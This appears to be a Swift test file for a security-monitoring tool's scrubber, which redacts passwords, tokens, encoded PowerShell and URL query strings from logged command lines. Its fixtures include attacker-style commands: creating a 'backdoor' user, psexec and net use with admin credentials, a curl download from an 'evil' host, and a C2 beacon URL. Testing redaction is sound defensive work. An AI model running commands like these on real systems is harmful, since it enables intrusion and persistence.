import Foundation
import Testing

@testable import MDRDetection

/// Command lines are stored only redacted, URLs without their query strings (DOMAIN.md, "Privacy").
@Suite struct ContentScrubberTests {
    @Test(arguments: [
        (
            #"powershell.exe -NoProfile -Command "Connect-Share -User admin -Password Zomer2026! ; Invoke-Encrypt""#,
            #"powershell.exe -NoProfile -Command "Connect-Share -User admin -Password [REDACTED] ; Invoke-Encrypt""#
        ),
        ("tool.exe --token=ghp_abc123XYZ --verbose", "tool.exe --token=[REDACTED] --verbose"),
        ("cmdkey /generic:srv01 /user:admin /pass:Winter2026", "cmdkey /generic:srv01 /user:admin /pass:[REDACTED]"),
        (#"msbuild deploy.proj /p:"Secret Value""#, "msbuild deploy.proj /p:[REDACTED]"),
        ("psexec \\\\srv01 -u admin -p Geheim123 cmd.exe", "psexec \\\\srv01 -u admin -p [REDACTED] cmd.exe"),
        (
            #"curl -H "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.sig" https://api.example.net/v1/items"#,
            #"curl -H "Authorization: Bearer [REDACTED]" https://api.example.net/v1/items"#
        ),
        ("curl -H 'Authorization: Basic YWRtaW46c2VjcmV0' x", "curl -H 'Authorization: Basic [REDACTED]' x"),
        ("wget https://admin:s3cret@files.example.net/a.zip", "wget https://admin:[REDACTED]@files.example.net/a.zip"),
        (
            "curl https://evil.example.net/pay?invoice=118&session=abc#top -o x",
            "curl https://evil.example.net/pay?[REDACTED] -o x"
        ),
        (
            #"sqlcmd -S db01 -Q "x" -C "Server=db01;User Id=sa;Password=P@ss;""#,
            #"sqlcmd -S db01 -Q "x" -C "Server=db01;User Id=sa;Password=[REDACTED];""#
        ),
        (
            #"$p = ConvertTo-SecureString "Zomer2026!" -AsPlainText -Force"#,
            #"$p = ConvertTo-SecureString [REDACTED] -AsPlainText -Force"#
        ),
        ("net user backdoor Welkom01! /add", "net user backdoor [REDACTED] /add"),
        (#"net use \\srv01\c$ Geheim! /user:ACME\admin"#, #"net use \\srv01\c$ [REDACTED] /user:ACME\admin"#),
        ("powershell -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", "powershell -EncodedCommand [REDACTED]"),
        ("notepad.exe C:\\Temp\\notes.txt", "notepad.exe C:\\Temp\\notes.txt"),
    ])
    func commandLinesKeepTheirShapeButLoseTheirSecrets(raw: String, expected: String) {
        #expect(ContentScrubber.redactCommandLine(raw) == expected)
    }

    @Test func redactingIsIdempotent() {
        let lines = [
            "tool --password=x -Token y https://u:p@h.example/a?b=c Bearer abc net user n p /add pwd=z",
            #"$p = ConvertTo-SecureString "x" -AsPlainText"#,
        ]
        for line in lines {
            let once = ContentScrubber.redactCommandLine(line)
            #expect(ContentScrubber.redactCommandLine(once) == once)
            #expect(!once.contains("p@") && !once.contains("b=c") && !once.contains("abc"))
        }
    }

    @Test(arguments: [
        ("https://factuur.example.net/pay?invoice=118&session=s3cr3t#frag", "https://factuur.example.net/pay"),
        ("http://admin:hunter2@10.0.0.5:8080/admin/?x=1", "http://admin@10.0.0.5:8080/admin/"),
        ("https://example.net", "https://example.net"),
        ("beacon.example.net/c2?id=ws-0042", "beacon.example.net/c2"),
    ])
    func urlsLoseTheirQueryStringFragmentAndPassword(raw: String, expected: String) {
        #expect(ContentScrubber.strippingQuery(fromURL: raw) == expected)
    }
}
